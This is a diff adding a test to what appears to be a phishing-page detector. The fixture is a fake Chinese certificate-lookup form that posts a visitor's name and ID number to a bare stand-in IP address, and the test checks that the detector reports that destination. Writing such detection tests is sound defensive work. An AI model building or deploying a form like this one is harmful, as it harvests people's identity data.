@@ -217,3 +217,10 @@ def test_a_page_that_is_a_picture_of_a_record_is_a_counterfeit(
     lesson = f"<h1>怎样看懂操作证</h1><p>{'下图是操作证样本，各栏的含义在课上讲解。' * 8}</p><img src=a.png>"
     told = page_of(lesson, "http://qr.show.example.com/", pictures=picture)
     assert judged(detector, told, "qr.show.example.com").verdict is Verdict.BENIGN
+
+
+def test_the_look_up_says_where_it_sends_what_was_typed(detector: Detector, page_of: Callable[..., Page]) -> None:
+    fields = "<input placeholder=姓名><input placeholder=身份证号><button>查询</button>"
+    page = page_of(f"<h1>特种作业操作证查询</h1><form action=http://203.0.113.9/save>{fields}</form>")
+    opinion = detector.assess(Site("www.shop.example.com", (page,)))
+    assert "203.0.113.9" in next(f for f in opinion.findings if f.rule == "P005").detail
